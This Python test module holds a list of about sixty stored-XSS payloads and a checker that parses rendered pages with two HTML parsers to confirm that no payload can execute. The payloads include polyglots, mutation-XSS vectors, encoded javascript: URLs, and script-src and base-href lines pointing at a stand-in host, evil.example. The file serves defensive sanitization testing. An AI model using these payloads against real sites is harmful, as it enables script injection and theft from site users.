"""Stored-XSS payloads, each with its own marker, and the check that none runs.

Every payload carries a unique marker (``XSS42001``…) in the part that would run, so
``assert_nothing_executable`` looks only at what a payload brought in, never at the
site's own scripts. Pages are parsed twice: with Python's ``html.parser`` (through
BeautifulSoup) and with html5lib, which follows the HTML5 parsing algorithm that
browsers use and so sees mutation (mXSS) tricks the way a browser would.
"""

import base64
import binascii
import functools
import re
from dataclasses import dataclass

from bleach._vendor import html5lib  # the HTML5 parser bleach itself uses
from bs4 import BeautifulSoup


@dataclass(frozen=True)
class Payload:
    name: str
    marker: str
    text: str

    def __str__(self) -> str:
        return self.name


# (name, template): "{m}" becomes the payload's marker, "{b64}" a base64-encoded
# <script> that calls it.
_TEMPLATES = [
    # Script tags
    ("script tag", "<script>alert('{m}')</script>"),
    ("script src", "<SCRIPT SRC=//evil.example/{m}.js></SCRIPT>"),
    ("nested script", "<scr<script>ipt>alert('{m}')</scr</script>ipt>"),
    ("script after a closing script", "</script><script>alert('{m}')</script>"),
    ("script with a slash", "<script/xss>alert('{m}')</script>"),
    # Event-handler attributes
    ("img onerror", "<img src=x onerror=alert('{m}')>"),
    ("svg onload", "<svg onload=alert('{m}')>"),
    ("svg slash onload", "<svg/onload=alert('{m}')>"),
    ("body onload", "<body onload=alert('{m}')>"),
    ("details ontoggle", "<details open ontoggle=alert('{m}')>"),
    ("p onmouseover", "<p onmouseover=\"alert('{m}')\">hover</p>"),
    ("input autofocus onfocus", "<input autofocus onfocus=alert('{m}')>"),
    ("video source onerror", "<video><source onerror=\"alert('{m}')\"></video>"),
    # Dangerous URLs
    ("javascript link", "<a href=\"javascript:alert('{m}')\">link</a>"),
    ("mixed-case javascript", "<a href=\"JaVaScRiPt:alert('{m}')\">link</a>"),
    (
        "control char before javascript",
        "<a href=\"\x01 javascript:alert('{m}')\">x</a>",
    ),
    ("tab inside javascript", "<a href=\"java\tscript:alert('{m}')\">link</a>"),
    ("entity tab inside javascript", "<a href=\"jav&#x09;ascript:alert('{m}')\">x</a>"),
    ("newline inside javascript", "<a href=\"java\nscript:alert('{m}')\">link</a>"),
    ("hex entity javascript", "<a href=\"jav&#x61;script:alert('{m}')\">link</a>"),
    ("decimal entity javascript", "<a href=\"&#106;avascript:alert('{m}')\">x</a>"),
    (
        "fully encoded javascript",
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;'
        "alert('{m}')\">link</a>",
    ),
    ("vbscript link", "<a href=\"vbscript:msgbox('{m}')\">link</a>"),
    ("mixed-case vbscript", "<a href=\"VbScRiPt:msgbox('{m}')\">link</a>"),
    (
        "data html link",
        "<a href=\"data:text/html,<script>alert('{m}')</script>\">x</a>",
    ),
    ("data base64 link", '<a href="data:text/html;base64,{b64}">{m}</a>'),
    ("iframe javascript", "<iframe src=\"javascript:alert('{m}')\"></iframe>"),
    ("iframe srcdoc", "<iframe srcdoc=\"<script>alert('{m}')</script>\"></iframe>"),
    (
        "form action",
        "<form action=\"javascript:alert('{m}')\"><button>go</button></form>",
    ),
    ("button formaction", "<button formaction=\"javascript:alert('{m}')\">go</button>"),
    (
        "svg xlink href",
        "<svg><a xlink:href=\"javascript:alert('{m}')\"><text>x</text></a></svg>",
    ),
    ("bare javascript url", "javascript:alert('{m}')"),
    ("object data", "<object data=\"javascript:alert('{m}')\"></object>"),
    ("embed data url", "<embed src=\"data:text/html,<script>alert('{m}')</script>\">"),
    ("base href", '<base href="//{m}.evil.example/">'),
    (
        "meta refresh",
        '<meta http-equiv="refresh" content="0;url=javascript:alert(\'{m}\')">',
    ),
    # Mutation vectors: svg, math, noscript, template, style, comments
    (
        "math mglyph style",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')>",
    ),
    (
        "noscript title",
        "<noscript><p title=\"</noscript><img src=x onerror=alert('{m}')>\">",
    ),
    (
        "svg style id",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert('{m}')>\">",
    ),
    (
        "form math mglyph",
        "<form><math><mtext></form><form><mglyph><style></math>"
        "<img src onerror=alert('{m}')>",
    ),
    ("template img", "<template><img src=x onerror=alert('{m}')></template>"),
    ("style img", "<style><img src=x onerror=alert('{m}')></style>"),
    ("comment breakout", "<!--<img src=\"--><img src=x onerror=alert('{m}')//\">"),
    ("textarea breakout", "</textarea><script>alert('{m}')</script>"),
    ("title breakout", "</title><script>alert('{m}')</script>"),
    ("option breakout", "</option></select><img src=x onerror=alert('{m}')>"),
    # Attribute breakouts
    ("double-quote breakout", "\"><script>alert('{m}')</script>"),
    ("single-quote breakout", "'><img src=x onerror=alert('{m}')>"),
    ("double-quote handler", '" onmouseover="alert(\'{m}\')" x="'),
    ("single-quote handler", "' onfocus='alert(`{m}`)' autofocus x='"),
    ("backtick handler", "` onmouseover=alert('{m}') `"),
    ("unquoted handler", " autofocus onfocus=alert('{m}') "),
    # Polyglots
    (
        "0xsobky polyglot",
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert('{m}') )//%0D%0A%0d%0a"
        "//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert('{m}')"
        "//>\\x3e",
    ),
    ("closing-tags polyglot", "'\"--></style></script><svg onload=alert('{m}')>"),
    # Template injection: must come out as the characters typed, never evaluated
    ("django template tags", "{{ 7|add:35 }}{% now 'Y' %}{% debug %} {m}"),
    (
        "template literals",
        "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('{m}')()}}",
    ),
    # Unicode tricks
    ("right-to-left override", "\u202e<img src=x onerror=alert('{m}')>\u202d"),
    ("byte order mark", "\ufeff<svg onload=alert('{m}')>"),
    ("fullwidth brackets", "＜script＞alert('{m}')＜/script＞"),
    ("zero-width joiner", "<scr\u200dipt>alert('{m}')</scr\u200dipt>"),
    ("url-encoded script", "%3Cscript%3Ealert('{m}')%3C/script%3E"),
    ("pre-escaped script", "&lt;script&gt;alert('{m}')&lt;/script&gt;"),
]


def _build(index: int, name: str, template: str) -> Payload:
    marker = f"XSS42{index:03d}"
    script = f"<script>alert('{marker}')</script>".encode()
    text = template.replace("{m}", marker).replace(
        "{b64}", base64.b64encode(script).decode()
    )
    return Payload(name=name, marker=marker, text=text)


PAYLOADS = [
    _build(index, name, template) for index, (name, template) in enumerate(_TEMPLATES)
]


# What `assert_nothing_executable` looks for.
URL_ATTRIBUTES = frozenset(
    {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}
    | {"background", "lowsrc", "dynsrc", "ping", "codebase", "cite", "manifest"}
)
EMBEDDING_TAGS = frozenset(
    {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "link"}
)
SCRIPT_TYPES = frozenset(
    {"", "module", "text/javascript", "application/javascript", "text/ecmascript"}
    | {"application/ecmascript", "text/jscript", "text/livescript"}
)
SAFE_DATA_URL = re.compile(r"data:image/(png|gif|jpe?g|webp|avif);")
_INVISIBLE = re.compile(r"[\x00-\x20\x7f-\x9f\u200b-\u200f\u2028-\u202e\ufeff]")
_XLINK = "{http://www.w3.org/1999/xlink}"
_TEXT_CHECKED = EMBEDDING_TAGS | {"script", "style", "meta"}  # text matters only here


def find_executable(html: str, marker: str) -> list[str]:
    """Whatever in ``html`` would run the payload marked ``marker`` in a browser."""
    problems = []
    for parser, elements in _parsed(html):
        for tag, attributes, text in elements:
            for problem in _problems_of(tag, attributes, text, marker):
                problems.append(f"{problem} ({parser}): <{tag} {attributes}>")
    return problems


def assert_nothing_executable(html: str, marker: str) -> None:
    problems = find_executable(html, marker)
    assert not problems, f"{marker} runs: " + "; ".join(problems[:5])


def dangerous_url(value: str) -> bool:
    """A javascript:, vbscript: or non-image data: URL, as a browser reads it."""
    url = _INVISIBLE.sub("", value).lower()
    if url.startswith(("javascript:", "vbscript:", "livescript:")):
        return True
    return url.startswith("data:") and not SAFE_DATA_URL.match(url)


def _problems_of(tag: str, attributes: dict, text: str, marker: str):
    values = " ".join(attributes.values())
    carries = marker in text or marker in values
    if tag == "script":
        kind = attributes.get("type", "").strip().lower()
        if kind in SCRIPT_TYPES and carries:
            yield "a script element"
    if tag in EMBEDDING_TAGS and carries:
        yield f"an embedding <{tag}>"
    if tag == "meta" and carries:
        yield "a meta element"
    if tag == "style" and marker in text:
        yield "a style element"
    for name, value in attributes.items():
        if marker not in _decoded(value):
            continue
        if name.startswith("on"):
            yield f"an event handler {name}"
        elif name in URL_ATTRIBUTES and dangerous_url(value):
            yield f"a dangerous URL in {name}"
        elif name == "srcdoc":
            yield "an iframe srcdoc"
        elif name == "style" and re.search(r"expression|javascript:|url\(", value):
            yield "a scripted style"


def _decoded(value: str) -> str:
    """The value, plus the content of a base64 data: URL, where a marker may hide."""
    head, _, tail = value.partition(";base64,")
    if not tail:
        return value
    try:
        return value + base64.b64decode(_INVISIBLE.sub("", tail)).decode(
            errors="ignore"
        )
    except (binascii.Error, ValueError):
        return value


@functools.lru_cache(maxsize=4)
def _parsed(html: str) -> tuple:
    """The elements of ``html`` by both parsers; a page is checked for many markers."""
    return (
        ("html.parser", tuple(_elements_by_html_parser(html))),
        ("html5lib", tuple(_elements_by_html5lib(html))),
    )


def _elements_by_html_parser(html: str):
    for element in BeautifulSoup(html, "html.parser").find_all(True):
        attributes = {
            name.lower(): " ".join(value) if isinstance(value, list) else value
            for name, value in element.attrs.items()
        }
        tag = element.name.lower()
        yield tag, attributes, element.get_text() if tag in _TEXT_CHECKED else ""


def _elements_by_html5lib(html: str):
    document = html5lib.parse(html, treebuilder="etree", namespaceHTMLElements=False)
    for element in document.iter():
        if not isinstance(element.tag, str):  # comments
            continue
        attributes = {
            name.replace(_XLINK, "xlink:").rsplit("}", 1)[-1].lower(): value
            for name, value in element.attrib.items()
        }
        tag = element.tag.rsplit("}", 1)[-1].lower()
        text = "".join(element.itertext()) if tag in _TEXT_CHECKED else ""
        yield tag, attributes, text
